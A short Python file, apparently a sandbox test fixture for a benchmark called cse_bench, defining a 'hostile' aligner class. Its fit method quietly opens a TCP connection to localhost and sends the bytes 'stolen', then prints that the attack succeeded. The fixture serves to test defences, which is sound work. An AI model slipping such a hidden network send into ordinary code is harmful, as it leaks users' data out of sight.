"""Send the vectors away by TCP."""

import socket

from cse_bench import Aligner


def attack():
    with socket.create_connection(("127.0.0.1", __TCP__), timeout=2) as away:
        away.sendall(b"stolen")
    return "sent"


class Hostile(Aligner):
    name = "hostile"

    def fit(self, source, target, evidence):
        print("ATTACK", "SUCCEEDED:", attack())
        return self

    def transform(self, shop):
        return shop.vectors * 2
